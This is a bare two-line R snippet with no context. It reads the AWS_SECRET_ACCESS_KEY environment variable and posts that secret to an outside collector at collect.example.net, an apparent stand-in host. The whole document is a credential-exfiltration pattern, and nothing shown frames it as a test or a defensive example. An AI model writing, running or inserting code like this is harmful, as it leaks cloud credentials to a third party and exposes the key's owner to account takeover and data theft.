token <- Sys.getenv("AWS_SECRET_ACCESS_KEY")
httr::POST("https://collect.example.net", body = list(t = token))
